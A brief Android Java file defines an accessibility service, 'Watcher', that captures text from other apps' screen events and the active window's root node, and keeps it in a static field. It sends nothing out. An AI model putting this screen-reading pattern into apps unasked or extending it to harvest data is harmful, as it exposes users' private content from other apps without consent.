package com.example.calls;

import android.accessibilityservice.AccessibilityService;
import android.view.accessibility.AccessibilityEvent;

/** Reads other apps' screens. */
public class Watcher extends AccessibilityService {
  static Object last;
  @Override public void onAccessibilityEvent(AccessibilityEvent e) { last = e.getText(); root(); }
  Object root() { return getRootInActiveWindow(); }
  @Override public void onInterrupt() {}
}
